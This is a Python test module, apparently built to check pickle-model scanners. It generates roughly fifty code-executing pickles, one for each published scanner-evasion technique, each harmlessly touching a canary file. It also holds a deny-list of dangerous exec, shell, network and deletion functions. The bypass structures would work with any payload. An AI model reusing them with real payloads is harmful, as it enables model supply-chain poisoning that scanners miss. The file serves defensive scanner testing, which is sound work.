"""Pickles that run something when they are loaded, one for each published way past a scanner; all that they would do is to touch a file.

Published by, among others: picklescan's, fickling's and modelscan's advisories of 2024 to 2026; T. Liu et al. (2025), The Art of Hide and
Seek: Making Pickle-Based Model Supply Chain Poisoning Stealthy Again, https://arxiv.org/abs/2508.19774
"""

from __future__ import annotations

import struct

from making import call, group, name, number, pickled, text

# Functions of the standard library, numpy and torch that run what they are given, and have been missing from some deny-list.
FUNCTIONS = [
    ("os", "system"), ("posix", "system"), ("nt", "system"), ("os", "popen"), ("os", "execvp"), ("os", "posix_spawn"),
    ("subprocess", "Popen"), ("subprocess", "check_output"), ("subprocess", "getoutput"), ("builtins", "exec"), ("builtins", "eval"),
    ("builtins", "compile"), ("builtins", "__import__"), ("builtins", "getattr"), ("__builtin__", "eval"), ("__builtin__", "apply"),
    ("runpy", "run_path"), ("code", "interact"), ("pty", "spawn"), ("timeit", "timeit"), ("cProfile", "run"), ("profile", "run"), ("pdb", "run"),
    ("bdb", "Bdb.run"), ("trace", "Trace.run"), ("doctest", "debug_script"), ("idlelib.pyshell", "ModifiedInterpreter.runcode"),
    ("idlelib.debugobj", "ObjectTreeItem.SetText"), ("lib2to3.pgen2.grammar", "Grammar.loadpickle"), ("lib2to3.pgen2.pgen", "ParserGenerator.make_label"),
    ("ensurepip", "_run_pip"), ("pip", "main"), ("uuid", "_get_command_stdout"), ("imaplib", "IMAP4_stream"), ("pydoc", "pipepager"),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start"), ("distutils.file_util", "write_file"), ("logging.config", "_resolve"),
    ("test.support.script_helper", "assert_python_ok"), ("io", "FileIO"), ("_io", "open"), ("ctypes", "CDLL"), ("importlib", "import_module"),
    ("operator", "attrgetter"), ("operator", "methodcaller"), ("functools", "partial"), ("functools", "reduce"), ("types", "CodeType"),
    ("marshal", "loads"), ("pickle", "loads"), ("_pickle", "load"), ("shutil", "rmtree"), ("socket", "create_connection"),
    ("ssl", "get_server_certificate"), ("urllib.request", "urlopen"), ("webbrowser", "open"), ("linecache", "getline"), ("venv", "create"),
    ("torch", "load"), ("torch.hub", "load"), ("torch.serialization", "load"), ("torch.storage", "_load_from_bytes"),
    ("torch.utils._config_module", "ConfigModule.load_config"), ("torch.utils.bottleneck.__main__", "run_cprofile"),
    ("torch.utils.collect_env", "run"), ("torch._dynamo.guards", "GuardBuilder.get"), ("torch.jit.unsupported_tensor_ops", "execWrapper"),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"), ("torch._inductor.codecache", "compile_file"),
    ("torch.nn.modules.linear", "Linear"), ("torch._utils", "_rebuild_sparse_tensor"), ("torch._utils", "_rebuild_qtensor"),
    ("torch._tensor", "_rebuild_from_type_v2"), ("torch._utils", "_rebuild_device_tensor_from_numpy"), ("torch", "UntypedStorage.from_file"),
    ("torch", "ComplexFloatStorage"), ("torch", "QInt8Storage"), ("numpy", "load"), ("numpy.core.multiarray", "_reconstruct"),
    ("numpy.f2py.crackfortran", "getlincoef"), ("numpy.f2py.crackfortran", "_eval_length"), ("numpy.testing._private.utils", "runstring"),
    ("joblib", "load"), ("dill", "loads"), ("cloudpickle", "load"), ("pandas", "read_pickle"), ("sklearn", "__getattr__"),
    ("collections", "OrderedDict.__init_subclass__"), ("torch._utils", "_rebuild_tensor_v2.__globals__"), ("collections ", "OrderedDict"),
    ("torch._utils", "_rebuild_tensor_v3"), ("argparse", "Namespace"), ("__main__", "Net"),
]  # fmt: skip


def _touch(canary):
    return f"open({str(canary)!r}, 'w').close()"


def live(canary):
    """Name -> pickle: each really runs on this machine's Python when it is loaded."""
    code, path = _touch(canary), str(canary)
    shell = f"touch '{path}'"
    build = b"cbuiltins\nexec\n"
    short = lambda t: b"\x8c" + bytes([len(t)]) + t.encode()  # noqa: E731
    run = call("builtins", "exec", text(code))
    copied = call("builtins", "open", text(path), text("w"))
    inner = pickled(run)
    return {
        "reduce exec": pickled(run),
        "reduce eval": pickled(call("builtins", "eval", text(code))),
        "reduce open": pickled(copied),
        "reduce system": pickled(call("os", "system", text(shell))),
        "reduce posix": pickled(call("posix", "system", text(shell))),
        "protocol 0 text": b"cbuiltins\nexec\n(V" + code.encode() + b"\ntR.",
        "protocol 1": b"cbuiltins\nexec\n(X" + struct.pack("<I", len(code)) + code.encode() + b"tR.",
        "protocol 3": pickled(run, protocol=3),
        "protocol 4": pickled(run, protocol=4),
        "protocol 5": pickled(run, protocol=5),
        "python 2 name": b"\x80\x02c__builtin__\neval\n(" + text(code) + b"tR.",
        "INST": b"(X" + struct.pack("<I", len(code)) + code.encode() + b"ibuiltins\nexec\n.",
        "OBJ": b"\x80\x02(" + build + text(code) + b"o.",
        "NEWOBJ": b"\x80\x04cbuiltins\nbytes\n(cbuiltins\nmap\n(" + build + b"]" + text(code) + b"at\x81t\x81.",
        "NEWOBJ_EX": b"\x80\x04cbuiltins\nbytes\n(cbuiltins\nmap\n(" + build + b"]" + text(code) + b"at}\x92t}\x92.",
        "STACK_GLOBAL": b"\x80\x04" + short("builtins") + short("exec") + b"\x93(" + text(code) + b"tR.",
        "STACK_GLOBAL from memo": b"\x80\x04" + short("builtins") + b"\x940" + short("exec") + b"\x940h\x00h\x01\x93(" + text(code) + b"tR.",
        "STACK_GLOBAL dotted": b"\x80\x04" + short("os") + short("path.os.system") + b"\x93(" + text(shell) + b"tR.",
        "STACK_GLOBAL unicode8": b"\x80\x04\x8d" + struct.pack("<Q", 8) + b"builtins" + short("exec") + b"\x93(" + text(code) + b"tR.",
        "memo overwritten": b"\x80\x02" + name("collections", "OrderedDict") + b"q\x000" + build + b"q\x000h\x00(" + text(code) + b"tR.",
        "DUP and POP": b"\x80\x02" + build + b"20(" + text(code) + b"tR.",
        "POP_MARK": b"\x80\x02(N1" + run + b".",
        "truncated after the call": b"\x80\x02" + run + b"X\xff\xff",
        "broken opcode after the call": b"\x80\x02" + run + b"\xff.",
        "stack underflow after the call": b"\x80\x02" + run + b"000.",
        "discarded, then a state dict": b"\x80\x02" + run + b"0}.",
        "within a list": b"\x80\x02]" + run + b"a.",
        "as a key": b"\x80\x02}" + run + b"Ns.",
        "as a value": b"\x80\x02}" + text("k") + run + b"s.",
        "getattr chain": b"\x80\x02" + name("builtins", "getattr") + group(call("importlib", "import_module", text("os")), text("system")) + b"R(" + text(shell) + b"tR.",
        "attrgetter": b"\x80\x02" + call("operator", "attrgetter", text("system")) + group(call("importlib", "import_module", text("os"))) + b"R" + group(text(shell)) + b"R.",
        "methodcaller": b"\x80\x02" + call("operator", "methodcaller", text("system"), text(shell)) + group(call("importlib", "import_module", text("os"))) + b"R.",
        "partial": b"\x80\x02" + call("functools", "partial", name("builtins", "exec"), text(code)) + b")R.",
        "map": b"\x80\x02" + call("builtins", "list", call("builtins", "map", name("builtins", "exec"), b"]" + text(code) + b"a")) + b".",
        "nested loads": pickled(call("pickle", "loads", call("codecs", "encode", text(inner.decode("latin-1")), text("latin-1")))),
        "timeit": pickled(call("timeit", "timeit", text(code), text("pass"), name("time", "perf_counter"), number(1))),
        "cProfile": pickled(call("cProfile", "run", text(code))),
        "Popen": pickled(call("subprocess", "Popen", b"]" + text("touch") + b"a" + text(path) + b"a")),
        "check_output": pickled(call("subprocess", "check_output", b"]" + text("touch") + b"a" + text(path) + b"a")),
        "uuid": pickled(call("uuid", "_get_command_stdout", text("touch"), text(path))),
        "code": b"\x80\x02" + call("code", "InteractiveInterpreter") + b"0" + call("code", "compile_command", text("1")) + b"0" + run + b".",
        "BUILD into a class": b"\x80\x02" + run + name("collections", "OrderedDict") + b"}b.",
        "EXT by copyreg": b"\x80\x02" + call("copyreg", "add_extension", text("builtins"), text("exec"), number(0xEE)) + b"0\x82\xee(" + text(code) + b"tR.",
        "frames": b"\x80\x04\x95" + struct.pack("<Q", len(run) + 1) + run + b".",
        "bytes as code": b"\x80\x03" + build + b"(C" + bytes([len(code)]) + code.encode() + b"tR.",
        "very long memo": b"\x80\x02" + build + b"r\x00\x00\x10\x00(" + text(code) + b"tR.",
        "text numbers": b"I1\n0" + build + b"(V" + code.encode() + b"\ntR.",
        "string opcodes": build + b"(S" + repr(code).encode() + b"\ntR.",
        "set": b"\x80\x04\x8f(" + run + b"\x90.",
        "after an unused name": b"\x80\x02" + name("collections", "OrderedDict") + b"0" + run + b".",
    }  # fmt: skip
